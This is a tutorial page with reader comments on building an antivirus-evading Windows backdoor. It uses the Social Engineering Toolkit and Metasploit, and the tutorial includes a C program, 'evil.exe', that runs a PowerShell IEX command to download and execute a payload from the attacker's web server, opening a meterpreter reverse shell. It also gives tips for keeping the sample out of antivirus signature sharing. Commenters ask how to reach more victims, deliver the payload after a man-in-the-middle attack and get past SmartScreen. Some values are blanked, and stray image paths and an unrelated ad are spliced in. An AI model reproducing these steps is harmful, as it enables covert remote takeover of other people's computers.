How To: Bypass Antivirus Using Powershell and Metasploit (Kali Tutorial)

Bypass Antivirus Using Powershell and Metasploit (Kali Tutorial)

So you want to create a meterpreter virus, but you keep getting caught by AV. How do you create one that will go undetected? In this tutorial, I'll teach you how to code your own simple virus that will download a powershell payload from an apache webserver and execute it - bypassing antivirus.Things You'll Need:

  1. Kali Linux
  2. A 'C' Compiler (I use gcc on Windows, I can't seem to get the kali version working)
  3. The Social Engineering Toolkit (preinstalled on kali)
  4. An Apache Webserver (preinstalled on kali)
  5. The Metasploit Framework (also preinstalled on kali)

Step 1: Creating the Powershell Payload

We'll be using the Social Engineering Toolkit to create our powershell payload. To open it, type this in console:


From there, type 1 for "social engineering attacks", then 9 for "powershell attack vectors", and finally 1 for "powershell alphanumeric shellcode injector".

Now, you'll need to provide an "LHOST". If you didn't already know, this is your attacker machine's local IP adress (so long as you're attacking over a local area network). To determine it, open a new terminal window and type in:


Scroll up to the top to find the interface that's connected to your network (in my case, that's"eth0"). Find what I've highlighted, "inet", and next to it you'll find your local IP adress (in my case, it's This is what you'll input for your LHOST.

Next, it'll prompt you to type in a "port for the reverse". It's referring to the "LPORT". Usually, I use "4444" as it's a meterpreter convention, but you can use any port you want so long as you remember it.

Then it will prompt you if you want to "start the listener now". Type "no", we'll do this manually later. For now we're done with SET.

Now we'll need to move that payload over to our apache webserver. To do so, open a terminal and type:

mv/root/.set/reports/powershell/x86_powershell_injection.txt /var/www/html/payload.txt

However, if you're still using Kali Linux 1 (not 2), use this command:

mv /root/.set/reports/powershell/x86_powershell_injection.txt /var/www/payload.txt

This is because, in Kali Linux version 2, the apache root directory was moved to the "html" folder inside of /var/www/.

Now, simply type:

service apache2 start

...and your webserver should be started.

Step 2: Creating the Virus

To create the virus, I'm using windows notepad and MinGW's "gcc". The code for the virus is as follows:

system("powershell.exe \"IEX ((new-object net.webclient).downloadstring(' '))\"");
return 0;

Remember to change "", as your LHOST (or local IP address) will likely be different.

Save this as "evil.c", then compile it using your favorite c compiler. In my case, I'm using gcc so I type:

gcc.exe D:\Hacking\evil.c -o D:\Hacking\evil.exeNow we have our FUD ("fully undetectable") executable.

Step 3: Setting Up the Listener

Lastly, we need to set up a listener to wait for a meterpreter session. Fire up the metasploit framework by typing:


Once it loads, type:

use multi/handler

Now, you'll need to type a series of options so I'll list them out for you:

  • set PAYLOAD windows/meterpreter/reverse_tcp
  • set LHOST
  • set LPORT 4444

Again, remember to change LHOST to your local IP address, and change LPORT if you used something other than 4444.

Finally, type "exploit" and hit enter to start the listener. As soon as your victim runs the "evil.exe" virus, you'll get a session.

That's it!

If you want to check your executable against antiviruses, I recommend against using VirusTotal. This is because they submit their signatures to antivirus companies - increasing the likelihood of your executable being detected. Instead, personally I use because, if they're keeping to their word, the signatures aren't being submitted. Here are the results of my executable if you're interested:


I hope you found my post useful and easy to follow. As this is my first post here (or anywhere, for that matter), I would really appreciate any feedback on what I could do better. Anyways, thanks for reading my post, and good luck!

Just updated your iPhone? You'll find new features for Podcasts, News, Books, and TV, aswell as important security improvements and fresh wallpapers. Find out what's new and changed on your iPhone with the iOS 17.5 update.


Good job
( ?° ?? ?°)

Everything worked fine, until i uploaded the exe to others laptops on the same local network, with windows 7 and windows 8. Both said that the program is not compatible with this version of windows. I used same compiler as you.


I managed to solve it out. i was using the built in gcc, not the MinGW one. so if "gcc file.c -o file.exe" was not working, now "wine gcc.exe file.c -o file.exe" is working

Yeah, I think I was originally having the same issue that you had. By "built in gcc" do you mean you were trying to compile it with gcc inside of kali? For some reason this one always produces the same error.

Yeah, it should be possible. Just replace the LHOST in the virus code with your No-IP address.

When i am trying to put my dns (** in LHOST the error is "Invalid ip address try again: "

using reversetcpdns

when run the compiled file on the victim's computer, it displayan error message, says :
windows smartscreen prevented an unrecognized app from starting. running this app might put your PC at risk.

How to avoid or bypass to this message?

Yeah, unfortunately bypassing antivirus won't get you past Windows SmartScreen. In order to do that, your program needs to be added to Microsoft's list of trusted programs, or it has to have a valid code signing certificate.

Metasploit keep saying ssl error after I run the virus.exe
How do I fix this?make sure you're using the correct payload for your listener, reverse_https

hi there, avg find it as a linux agent, why ?

just gave it a try on windows 10 and the .exe get's detected as virus by M$ defender :(


this post was really awesome and i have seen creating payloads and listeners but they were all detectable but this one is really undetectable. I also wanted to know that how can we create an apk instead of .exe virus and how to create a payload and listener for android devices. If you can answer this then that would be really helpful.

Excellent Post, I Love your site ;)

I need your help regarding MITM attack , can you please guide me that when I have done successful MITM attack, then how can I RUN my payload on any system connected on that domain ???


Great tutorial so far but I can't get past step 2, because I'm lost which program you're using to do what and in which OS..

If someone is willing to help me for a few minutes that would be highly appreciated!

You can contact me on

Thanks :-)

On W7, AVAST detects the .exe as a virus upon running it.

I wrote a little python script to download the file made by SET, but it get's stopped by avast..interesting to see how deep these programs go, cause I can download the index.html file on the saveserver just fine.

can this be use for multiple targets too?
as this executable is open up by multiple targets at a same time, will i be getting access to all of them?

Hi, I use payload.txt with a c script and not working for me, can establish a connection with my victim (Windows 7) and my kali vm show a send stage repeteadly, however when establish a meterpreter session its failed.

Hello ,
Iam not getting the reverse connection .
It is showing that exe is not comaptable.
Helpme....

HI! What can i do after to start running this binary in the victim PC?

Not only it got detected byWin Smart Screen, but it also said "The program couldn't berun on your pc, contact the publisher."

At least any solutions for the second problem?

Share YourThoughts

  • Hot
  • Latest